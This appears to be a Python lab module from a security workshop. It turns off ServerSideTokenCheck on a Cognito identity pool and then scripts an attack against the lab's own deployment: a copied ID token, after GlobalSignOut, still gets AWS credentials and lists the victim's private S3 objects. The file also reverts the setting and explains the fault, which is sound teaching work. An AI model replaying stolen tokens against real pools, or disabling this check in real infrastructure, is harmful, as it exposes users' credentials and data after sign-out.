"""Lab 7: `ServerSideTokenCheck` off.

An ID token is a signed JWT: it verifies by its signature alone until it
expires, an hour after sign-in, whatever happened since. `GlobalSignOut`
revokes the user's refresh and access tokens, not the ID tokens already
issued, so without the identity pool's server-side check (which asks the user
pool whether that sign-in still stands) a copy taken before sign-out keeps
buying AWS credentials for the rest of its hour.
https://docs.aws.amazon.com/cognitoidentity/latest/APIReference/API_CognitoIdentityProvider.html
"""

from __future__ import annotations

from typing import Any

from botocore.exceptions import ClientError
from django.conf import settings

from core.deployment import Deployment
from infra import aws
from infra.provision import deployment_names, identity_pool_config
from workshop.base import AttackResult, Lab, Report
from workshop.labs.public_client import user_pool_sign_in
from workshop.outsider import Outsider, refused

VICTIM = "alice@example.com"
MAX_SHOWN = 5  # key names printed


def _pool_config(*, deployment: Deployment, check: bool) -> dict[str, Any]:
    """What provisioning sets, with the check on (as provisioned) or off."""
    config = identity_pool_config(
        name=deployment_names().identity_pool, provider=deployment.provider, client_id=deployment.app_client_id
    )
    providers = [{**p, "ServerSideTokenCheck": check} for p in config["CognitoIdentityProviders"]]
    return {**config, "CognitoIdentityProviders": providers}


def apply(*, deployment: Deployment, report: Report) -> None:
    aws.identity_pool_update(identity_pool_id=deployment.identity_pool_id, config=_pool_config(deployment=deployment, check=False))
    report(f"Turned ServerSideTokenCheck off for {deployment.provider} on identity pool {deployment.identity_pool_id}")


def revert(*, deployment: Deployment, report: Report) -> None:
    aws.identity_pool_update(identity_pool_id=deployment.identity_pool_id, config=_pool_config(deployment=deployment, check=True))
    report(f"Turned ServerSideTokenCheck on again for {deployment.provider}, as provisioning sets it")


def applied(*, deployment: Deployment) -> bool:
    pool = aws.identity_pool_describe(identity_pool_id=deployment.identity_pool_id)
    ours = [
        p
        for p in pool.get("CognitoIdentityProviders") or []
        if p.get("ProviderName") == deployment.provider and p.get("ClientId") == deployment.app_client_id
    ]
    return any(not p.get("ServerSideTokenCheck") for p in ours)


def attack(*, outsider: Outsider) -> AttackResult:
    signed_in = user_pool_sign_in(outsider, email=VICTIM, password=settings.DEMO_PASSWORD)
    outsider.step("Someone copies the ID token (from a log line, a crash report, a device left signed in)")

    outsider.step(f"{VICTIM} signs out everywhere: GlobalSignOut with her access token, as the app's Sign out does")
    outsider.client("cognito-idp").global_sign_out(AccessToken=signed_in.access_token)
    outsider.got("her refresh and access tokens revoked; the ID token still verifies by its signature for its hour")

    logins = {signed_in.provider: signed_in.id_token}
    identity = outsider.client("cognito-identity")
    outsider.step("With the copied ID token: GetId, unsigned")
    try:
        identity_id = identity.get_id(IdentityPoolId=signed_in.identity_pool_id, Logins=logins)["IdentityId"]
        outsider.got(f"her identity {identity_id}")
        outsider.step("GetCredentialsForIdentity with the same copied ID token")
        c = identity.get_credentials_for_identity(IdentityId=identity_id, Logins=logins)["Credentials"]
    except ClientError as exc:
        return refused(exc)
    creds = {"accessKeyId": c["AccessKeyId"], "secretAccessKey": c["SecretKey"], "sessionToken": c["SessionToken"]}
    arn = outsider.client("sts", creds).get_caller_identity()["Arn"]
    outsider.got(f"credentials {c['AccessKeyId']} for {arn}, after she signed out")

    bucket = signed_in.bucket
    prefix = f"private/{identity_id}/"
    outsider.step(f"ListObjectsV2 on s3://{bucket}/{prefix} with them")
    try:
        listing = outsider.s3(creds).list_objects_v2(Bucket=bucket, Prefix=prefix)
    except ClientError as exc:
        return refused(exc)
    keys = [o["Key"] for o in listing.get("Contents", [])]
    shown = ", ".join(keys[:MAX_SHOWN]) + (f" and {len(keys) - MAX_SHOWN} more" if len(keys) > MAX_SHOWN else "")
    if keys:
        outsider.got(f"the keys of her {len(keys)} private objects: {shown}")
    else:
        outsider.got("the listing of her private prefix (empty: nothing uploaded yet)")
    return AttackResult(succeeded=True, obtained=(arn, c["AccessKeyId"], *keys))


LAB = Lab(
    number=7,
    slug="07-token-check-off",
    title="ServerSideTokenCheck off",
    rule="server-side-token-check-off",
    apply=apply,
    revert=revert,
    applied=applied,
    attack=attack,
    culprit=(
        'Identity pool provider for the user pool: "ServerSideTokenCheck": false, so GetId and '
        "GetCredentialsForIdentity accept an ID token without asking the user pool whether that sign-in was revoked."
    ),
)
